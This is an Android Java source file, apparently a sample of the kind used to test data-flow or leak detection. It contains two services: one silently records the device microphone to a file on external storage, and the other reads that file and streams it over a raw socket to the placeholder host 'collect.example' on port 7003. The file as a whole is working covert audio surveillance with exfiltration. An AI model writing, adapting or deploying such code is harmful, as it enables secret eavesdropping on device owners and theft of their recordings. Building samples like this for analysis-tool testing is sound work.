package org.example.flows.store;

import android.app.Service;
import android.content.Intent;
import android.media.MediaRecorder;
import android.os.Environment;
import android.os.IBinder;
import java.io.File;
import java.io.FileInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

/** Sound is recorded into a file; another service sends that file. */
public class Recorded extends Service {
    static File target() {
        return new File(Environment.getExternalStorageDirectory(), "sound.3gp");
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        MediaRecorder recorder = new MediaRecorder();
        recorder.setAudioSource(MediaRecorder.AudioSource.MIC);
        recorder.setOutputFormat(MediaRecorder.OutputFormat.THREE_GPP);
        recorder.setAudioEncoder(MediaRecorder.AudioEncoder.AMR_NB);
        recorder.setOutputFile(target().getAbsolutePath());
        try {
            recorder.prepare();
            recorder.start();
        } catch (IOException ignored) {
            stopSelf();
        }
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    public static class Upload extends Service {
        @Override
        public int onStartCommand(Intent intent, int flags, int startId) {
            try {
                FileInputStream in = new FileInputStream(target());
                Socket socket = new Socket("collect.example", 7003);
                OutputStream out = socket.getOutputStream();
                byte[] piece = new byte[512];
                int count = in.read(piece);
                while (count > 0) {
                    out.write(piece, 0, count);
                    count = in.read(piece);
                }
                out.close();
            } catch (IOException ignored) {
                stopSelf();
            }
            return START_NOT_STICKY;
        }

        @Override
        public IBinder onBind(Intent intent) {
            return null;
        }
    }
}
